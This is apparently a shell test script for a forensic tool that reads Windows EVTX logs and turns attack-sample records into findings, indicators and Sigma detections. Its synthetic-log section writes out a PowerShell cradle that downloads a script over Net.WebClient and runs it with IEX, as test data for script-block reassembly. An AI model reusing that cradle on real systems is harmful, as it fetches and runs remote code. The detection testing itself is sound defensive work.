#!/bin/sh
# test_logs.sh -- EVTX evidence in a case: every record read, logons,
# services and cleared logs kept as events, accounts and source addresses
# as indicators, a cleared log as a T1070.001 finding.
. "$(dirname "$0")/lib.sh"
A="$CORPORA/evtx/attack-samples"
if [ ! -d "$A" ]; then skip "evtx in a case" "corpora folder $A is absent"; exit 0; fi
mkdir -p "$T/ev"
cp "$A/Defense Evasion/DE_1102_security_log_cleared.evtx" "$A/Defense Evasion/DE_104_system_log_cleared.evtx" "$T/ev/" 2>/dev/null
cp "$A"/Lateral\ Movement/*.evtx "$T/ev/" 2>/dev/null
n=$(ls "$T/ev" | wc -l)
"$TELLS_BIN" investigate "$T/ev" -o "$T/c.tells" > "$T/out" 2> "$T/err"; rc=$?
check "investigate over $n EVTX files exits 0" [ "$rc" -eq 0 ]
check "every file analysed as evtx" [ "$(sqlite3 "$T/c.tells" "select count(*) from evidence where kind='evtx' and status='analysed'")" -eq "$n" ]
total=$(sqlite3 "$T/c.tells" "select sum(json_extract(summary,'\$.records') - json_extract(summary,'\$.records_recovered')) from evidence")
if command -v evtxexport >/dev/null 2>&1; then
  ref=0
  for f in "$T"/ev/*.evtx; do
    k=$(evtxexport "$f" 2>/dev/null | grep -c '^Event number')
    ref=$((ref + k))
  done
  echo "    records: tells $total, evtxexport $ref"
  check "record count equals evtxexport's" [ "$total" -eq "$ref" ]
else
  skip "record count equals evtxexport's" "evtxexport is not installed"
fi
check "the cleared Security and System logs are T1070.001 findings" \
  [ "$(sqlite3 "$T/c.tells" "select count(distinct evidence_id) from findings where technique='T1070.001'")" -ge 2 ]
check "logon events kept with their summary" \
  [ "$(sqlite3 "$T/c.tells" "select count(*) from events where kind like 'logon.%' and summary like '%logon type%'")" -gt 0 ]
check "accounts and hosts became indicators with sightings" \
  [ "$(sqlite3 "$T/c.tells" "select count(distinct i.type) from indicators i join sightings s on s.indicator_id=i.id where i.type in ('account','host')")" -eq 2 ]
check "evidence time span comes from the records" \
  [ "$(sqlite3 "$T/c.tells" "select count(*) from evidence where first_ns is null")" -eq 0 ]
check "timeline is ordered by time and holds the log events" py '
import json,subprocess,sys
out=subprocess.run(["'"$TELLS_BIN"'","show","'"$T"'/c.tells","timeline","--jsonl"],capture_output=True,text=True).stdout
r=[json.loads(l) for l in out.splitlines()]
t=[x["time"] for x in r]
sys.exit(0 if t==sorted(t) and any(x["type"]=="event" for x in r) else 1)'

# intrusion summaries in the case (per file): LM_Remote_Service02_7045.evtx
# installs spoolfool and spoolsv (image cmd.exe) and remotesvc (calc.exe)
check "new services are T1543.003 findings, cmd.exe images high" \
  [ "$(sqlite3 "$T/c.tells" "select count(*) || '/' || sum(severity='high') from findings where technique='T1543.003'")" = "3/2" ]
check "each EVTX file with summaries has its evtx.summaries artifact" \
  [ "$(sqlite3 "$T/c.tells" "select count(*) from artifacts a join evidence e on e.id=a.evidence_id where a.kind='evtx.summaries' and json_extract(a.details,'\$.totals.records') = json_extract(e.summary,'\$.records') and json_array_length(a.details,'\$.summaries') = json_extract(e.summary,'\$.summaries')")" -eq \
    "$(sqlite3 "$T/c.tells" "select count(*) from evidence where json_extract(summary,'\$.summaries') > 0")" ]
check "the spoolfool service is in its file's summaries with account and time" \
  [ "$(sqlite3 "$T/c.tells" "select json_extract(j.value,'\$.account') || ' ' || json_extract(j.value,'\$.first') || ' ' || json_extract(j.value,'\$.record_id') from artifacts a, json_each(a.details,'\$.summaries') j where json_extract(j.value,'\$.name')='spoolfool'")" = "LocalSystem 2019-03-03T09:20:28.621489Z 4480" ]

# tells logs --dump: the expected record of every SigmaHQ regression test is
# among the records dumped from its .evtx (compared as JSON structures).
R="$CORPORA/sigma/regression"
if [ -d "$R" ]; then
  check "logs --dump gives each regression test's expected record" py '
import json,os,subprocess,sys
root=sys.argv[1] if len(sys.argv)>1 else "'"$R"'"
ok=bad=0; diverge=[]
for d,_,fs in os.walk(root):
    for f in fs:
        if not f.endswith(".json"): continue
        ev=os.path.join(d,f[:-5]+".evtx")
        if not os.path.exists(ev): continue
        text=open(os.path.join(d,f)).read(); dec=json.JSONDecoder(); i=0; wants=[]
        while True:   # some files hold several records, one after another
            while i < len(text) and text[i].isspace(): i+=1
            if i >= len(text): break
            o,i=dec.raw_decode(text,i); wants.append(o)
        out=subprocess.run(["'"$TELLS_BIN"'","logs","--dump",ev,"--jsonl","--quiet"],capture_output=True,text=True).stdout
        got=[json.loads(l) for l in out.splitlines()]
        for want in wants:
            if want in got: ok+=1
            else: bad+=1; diverge.append(f)
print("    %d of %d expected records found; differing: %s" % (ok, ok+bad, diverge[:5]))
# one expected file disagrees with its own .evtx (Explorer.exe vs Explorer.EXE
# in the binary data, nanosecond time from a newer evtx_dump): see docs/internals/evtx.md
sys.exit(0 if bad <= 1 else 1)'
fi

# tells logs --rules over the real .evtx of every SigmaHQ regression test: the
# rule the test names must fire on its log, with its author on the detection.
RULES="$CORPORA/sigma/rules"
if [ -d "$R" ] && [ -d "$RULES" ]; then
  "$TELLS_BIN" logs "$R" --rules "$RULES" --jsonl > "$T/det.jsonl" 2> "$T/det.err"; rc=$?
  check "logs --rules over the regression logs exits 0" [ "$rc" -eq 0 ]
  check "every regression test's rule fires on its evtx, author kept" py '
import json,os,re,sys
root="'"$R"'"
hits={}
for l in open("'"$T"'/det.jsonl"):
    d=json.loads(l)
    if "rule_id" not in d: continue   # the summaries follow the detections
    hits.setdefault((os.path.dirname(d["evidence"]), d["rule_id"]), []).append(d)
ok=bad=0; same=0; miss=[]
for d,_,fs in os.walk(root):
    if "info.yml" not in fs: continue
    info=open(os.path.join(d,"info.yml")).read()
    m=re.search(r"rule_metadata:\s*\n\s*-\s*id:\s*(\S+)", info)
    if not m or not any(f.endswith(".evtx") for f in fs): continue
    h=hits.get((os.path.realpath(d), m.group(1)))
    if h and all(x["author"] for x in h):
        ok+=1
        c=re.search(r"match_count:\s*(\d+)", info)
        same+= bool(c) and int(c.group(1))==len(h)
    else:
        bad+=1; miss.append(os.path.relpath(d,root))
print("    %d of %d regression rules fire on their log (%d with exactly match_count hits); missing: %s" % (ok, ok+bad, same, miss[:5]))
sys.exit(0 if bad==0 else 1)'
fi

if [ -d "$RULES" ]; then
  "$TELLS_BIN" investigate "$T/ev" -o "$T/s.tells" --sigma "$RULES/rules/windows" > "$T/sout" 2> "$T/serr"; rc=$?
  grep Sigma "$T/sout" | sed 's/^/    /'
  check "investigate --sigma exits 0 (rule warnings only)" [ "$rc" -eq 0 ]
  check "Sigma detections are findings with rule id, ATT&CK technique and author" \
    [ "$(sqlite3 "$T/s.tells" "select count(*) from findings where rule like 'sigma:%' and author is not null and json_extract(details,'\$.rule_title') = title")" -gt 0 ]
  check "every Sigma finding keeps its author" \
    [ "$(sqlite3 "$T/s.tells" "select count(*) from findings where rule like 'sigma:%' and (author is null or author = '')")" -eq 0 ]
fi

# tells logs without --rules: the intrusion summaries, values checked by hand
# against `tells logs --dump` of each sample.
A="$CORPORA/evtx/attack-samples"
if [ -d "$A" ]; then
  "$TELLS_BIN" logs "$A/Command and Control/DE_RDP_Tunnel_5156.evtx" \
    "$A/Command and Control/DE_RDP_Tunneling_TerminalServices-RemoteConnectionManagerOperational_1149.evtx" \
    "$A/Lateral Movement/LM_Remote_Service02_7045.evtx" \
    "$A/Credential Access/CA_4624_4625_LogonType2_LogonProc_chrome.evtx" \
    "$A/Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx" \
    "$A/Credential Access/kerberos_pwd_spray_4771.evtx" \
    "$A/Privilege Escalation/Sysmon_UACME_64.evtx" \
    "$A/Defense Evasion/DE_1102_security_log_cleared.evtx" --jsonl --quiet > "$T/sum.jsonl" 2> "$T/sum.err"; rc=$?
  check "logs without --rules exits 0 and writes only summaries" \
    [ "$rc" -eq 0 -a "$(grep -c rule_id "$T/sum.jsonl")" -eq 0 -a "$(tail -1 "$T/sum.jsonl" | grep -c '"summary":"totals"')" -eq 1 ]
  check "summaries hold the values read by hand from the dumps" py '
import json,sys
r=[json.loads(l) for l in open("'"$T"'/sum.jsonl")]
def one(kind, **kv):
    m=[x for x in r if x["summary"]==kind and all(x.get(k)==v for k,v in kv.items())]
    if len(m)!=1: print("    %s %s: %d matches" % (kind, kv, len(m))); return {}
    return m[0]
bad=0
def want(x, **kv):
    global bad
    for k,v in kv.items():
        if x.get(k)!=v: print("    %s: %r != %r" % (k, x.get(k), v)); bad+=1
# RDP: six 1149 of example\admin01 from 10.0.2.15 on PC01
want(one("rdp_session", user="example\\admin01", source_ip="10.0.2.15"), events={"1149":6},
     first="2019-01-29T23:00:10.212008Z", last="2019-02-02T22:44:55.932522Z", host="PC01.example.corp")
# across files: the 4624 type 10 of the Security log (5156 sample) and the
# 1149 of the RemoteConnectionManager log are one session
want(one("rdp_session", source_ip="127.0.0.1"), user="EXAMPLE\\admin01", events={"4624":1,"1149":1}, count=2,
     first="2019-02-13T18:04:57.452386Z", last="2019-02-13T18:04:58.363696Z")
want(one("service", name="spoolfool"), image_path="cmd.exe", account="LocalSystem", event_ids=[7045],
     host="WIN-77LTAPHIQ1R.example.corp", suspicious_image=True, record_id=4480, technique="T1543.003")
want(one("service", name="remotesvc"), image_path="calc.exe", suspicious_image=False, first="2019-03-19T00:41:29.008933Z")
want(one("logon", outcome="failure", account="MSEDGEWIN10\\IEUser"), logon_type=2, status="0xc000006a",
     source_workstation="MSEDGEWIN10", count=1, first="2020-09-09T13:18:23.627952Z")
want(one("logon", outcome="success", account="MSEDGEWIN10\\IEUser"), logon_type=2, count=2,
     first="2020-09-09T13:18:27.714613Z", last="2020-09-09T13:18:27.714758Z")
want(one("logon", event_id=4771, account="backdoor"), source_ip="172.16.66.1", status="0x18", outcome="failure")
want(one("script_block", script_block_id="27f08bda-c330-419f-b83b-eb5c0f699930"), parts_seen=1, parts_total=1,
     complete=True, length=1538, record_id=971, path="C:\\Users\\Public\\lsass_wer_ps.ps1",
     sha256="484cb4dbf0b2e6987f1f0104b2b6d866537ba7c8679e1ea06e1a5c28775c24d3")
want(one("mass_deletion", image="C:\\Windows\\system32\\DllHost.exe"), count=2, max_in_window=2, wiper=False,
     events={"23":2}, host="DESKTOP-NTSSLJD")
want(one("log_clear", host="PC01.example.corp", event_id=1102, user="EXAMPLE\\user01"), record_id=452811,
     technique="T1070.001", first="2019-03-19T23:35:07.524202Z")
t=r[-1]
want(t, summary="totals")
want(t.get("dropped",{}), logon=0, service=0, rdp_session=0, times=0, script_bytes=0)
sys.exit(1 if bad else 0)'
  check "--rules with --dump is a usage error" sh -c '"$0" logs --dump "$1" --rules "$1" --jsonl >/dev/null 2>&1; [ $? -eq 2 ]' \
    "$TELLS_BIN" "$A/Defense Evasion/DE_1102_security_log_cleared.evtx"

  # a Sigma correlation across two files, the later event read first: the
  # System log (104 at 23:34:25) and the Security log (1102 at 23:35:07) of
  # PC01 were cleared 42 s apart
  cat > "$T/corr.yml" <<'YML'
title: Security log cleared
name: sec_clear
logsource:
  product: windows
  service: security
detection:
  sel:
    EventID: 1102
  condition: sel
---
title: System log cleared
name: sys_clear
logsource:
  product: windows
  service: system
detection:
  sel:
    EventID: 104
  condition: sel
---
title: System then Security log cleared
id: 8d1f5a52-2c6b-4f1e-9a53-4b7f0c3e1a01
correlation:
  type: temporal_ordered
  rules: [sys_clear, sec_clear]
  group-by: [Computer]
  timespan: 5m
level: high
---
title: Security then System log cleared
id: 8d1f5a52-2c6b-4f1e-9a53-4b7f0c3e1a02
correlation:
  type: temporal_ordered
  rules: [sec_clear, sys_clear]
  group-by: [Computer]
  timespan: 5m
level: high
YML
  S1="$A/Defense Evasion/DE_1102_security_log_cleared.evtx"; S2="$A/Defense Evasion/DE_104_system_log_cleared.evtx"
  for order in "$S1|$S2" "$S2|$S1"; do
    f1=${order%%|*}; f2=${order#*|}
    "$TELLS_BIN" logs "$f1" "$f2" --rules "$T/corr.yml" --jsonl > "$T/corr.jsonl" 2>/dev/null
    check "correlation across two files fires in time order ($(basename "$f1") first)" \
      [ "$(grep -c '"rule_id":"8d1f5a52-2c6b-4f1e-9a53-4b7f0c3e1a01".*"group":"Computer=PC01.example.corp","count":2' "$T/corr.jsonl")" -eq 1 \
        -a "$(grep -c '8d1f5a52-2c6b-4f1e-9a53-4b7f0c3e1a02' "$T/corr.jsonl")" -eq 0 ]
  done
fi

# Summaries the corpora have no sample of -- a script block in three parts
# (records out of order) plus an incomplete one, a brute force, a wiper --
# in logs written by tests/tools/mkevtx, through `tells logs` and a case.
MK="${TELLS_BUILD:-}/tools/mkevtx"
if [ -x "$MK" ]; then
  python3 - "$T/syn.jsonl" <<'PYEOF'
import json,sys
out=open(sys.argv[1],"w")
def ev(ch,prov,eid,t,data,host="WS07.corp.local"):
    out.write(json.dumps({"channel":ch,"provider":prov,"event_id":eid,"time":t,"computer":host,"data":data})+"\n")
ps="Microsoft-Windows-PowerShell/Operational"; pp="Microsoft-Windows-PowerShell"
parts={1:"$u='http://198.51.100.7/a';",2:" $w=New-Object Net.WebClient;",3:" IEX $w.DownloadString($u)"}
for n in (2,3,1):
    ev(ps,pp,4104,"2024-03-01T10:00:0%dZ"%n,{"MessageNumber":n,"MessageTotal":3,"ScriptBlockText":parts[n],
       "ScriptBlockId":"0d8e4c11-7f3a-4c7e-9d55-1b2a3c4d5e6f","Path":"C:\\Users\\bob\\x.ps1"})
ev(ps,pp,4104,"2024-03-01T10:00:05Z",{"MessageNumber":2,"MessageTotal":4,"ScriptBlockText":"part two",
   "ScriptBlockId":"11111111-2222-3333-4444-555555555555","Path":""})
for k in range(12):
    ev("Security","Microsoft-Windows-Security-Auditing",4625,"2024-03-01T10:01:%02dZ"%(k*4),
       {"TargetUserName":"administrator","TargetDomainName":"CORP","LogonType":3,"IpAddress":"203.0.113.50",
        "WorkstationName":"KALI","Status":"0xc000006d","SubStatus":"0xc000006a"},host="DC01.corp.local")
for k in range(120):
    ev("Microsoft-Windows-Sysmon/Operational","Microsoft-Windows-Sysmon",23,"2024-03-01T10:05:%02d.%03dZ"%(k//2,(k%2)*500),
       {"Image":"C:\\ProgramData\\wipe.exe","TargetFilename":"D:\\Shares\\f%03d.docx"%k,"User":"CORP\\svc"},host="FS01.corp.local")
PYEOF
  "$MK" -o "$T/syn.evtx" "$T/syn.jsonl" 2> "$T/mk.err"
  "$TELLS_BIN" logs "$T/syn.evtx" --jsonl > "$T/syn.out" 2> "$T/syn.err"; rc=$?
  check "logs over the written log exits 0" [ "$rc" -eq 0 ]
  check "script block reassembled from 3 parts out of order; the other is incomplete" py '
import json,sys,hashlib
r=[json.loads(l) for l in open("'"$T"'/syn.out")]
sb={x["script_block_id"]:x for x in r if x["summary"]=="script_block"}
a=sb.get("0d8e4c11-7f3a-4c7e-9d55-1b2a3c4d5e6f",{}); b=sb.get("11111111-2222-3333-4444-555555555555",{})
want="$u='"'"'http://198.51.100.7/a'"'"'; $w=New-Object Net.WebClient; IEX $w.DownloadString($u)"
ok=(a.get("text")==want and a.get("complete") is True and a.get("parts_seen")==3 and
    a.get("sha256")==hashlib.sha256(want.encode()).hexdigest() and a.get("first")=="2024-03-01T10:00:01.000000Z" and
    b.get("complete") is False and b.get("missing_parts")==[1,3,4] and b.get("parts_total")==4 and b.get("path") is None)
sys.exit(0 if ok else 1)'
  check "12 failures in 44 s from one source: T1110 bursts by account and by source" py '
import json,sys
r=[json.loads(l) for l in open("'"$T"'/syn.out")]
b=[x for x in r if x["summary"]=="logon_burst"]
acc=[x for x in b if x["by"]=="account" and x["account"]=="administrator"]
src=[x for x in b if x["by"]=="source" and x["source"]=="203.0.113.50"]
ok=len(b)==2 and acc and src and acc[0]["failures_in_window"]==12 and acc[0]["technique"]=="T1110" and \
   acc[0]["window_start"]=="2024-03-01T10:01:00.000000Z" and acc[0]["window_end"]=="2024-03-01T10:01:44.000000Z" and \
   src[0]["accounts"]==["administrator"]
sys.exit(0 if ok else 1)'
  check "120 deletions in 60 s by one image: wiper signal, T1485" py '
import json,sys
r=[json.loads(l) for l in open("'"$T"'/syn.out")]
d=[x for x in r if x["summary"]=="mass_deletion"]
ok=len(d)==1 and d[0]["count"]==120 and d[0]["max_in_window"]==120 and d[0]["wiper"] is True and \
   d[0]["technique"]=="T1485" and d[0]["image"]=="C:\\ProgramData\\wipe.exe" and d[0]["host"]=="FS01.corp.local"
sys.exit(0 if ok else 1)'
  "$TELLS_BIN" investigate "$T/syn.evtx" -o "$T/syn.tells" -q > /dev/null 2>&1
  check "in a case: T1110 and T1485 findings, script block and burst on the timeline" \
    [ "$(sqlite3 "$T/syn.tells" "select (select count(*) from findings where technique='T1110') || (select count(*) from findings where technique='T1485') || (select count(*) from events where kind='summary.script_block') || (select count(*) from events where kind='summary.logon_burst')")" = "2122" ]
  check "in a case: the brute-force source is an indicator with 12 sightings' worth" \
    [ "$(sqlite3 "$T/syn.tells" "select sum(s.count) from indicators i join sightings s on s.indicator_id=i.id where i.type='ip' and i.value='203.0.113.50'")" -eq 12 ]
else
  skip "summaries of written logs" "$MK not built"
fi
